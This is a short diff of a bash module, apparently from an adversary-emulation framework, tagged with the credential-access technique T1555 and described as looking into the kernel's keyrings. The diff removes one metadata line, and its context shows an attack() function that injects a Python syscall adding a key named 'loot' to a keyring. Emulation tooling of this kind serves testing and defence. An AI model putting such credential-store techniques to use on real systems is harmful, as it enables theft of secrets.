@@ -2,7 +2,6 @@
 # shellcheck shell=bash disable=SC2034,SC2154
 technique=T1555
 about="looks into the kernel's keyrings"
-needs="the hooks of keys"
 attack() {
 	inject '
 result = LIBC.syscall(248, b"user", b"loot", b"x", 1, -2)
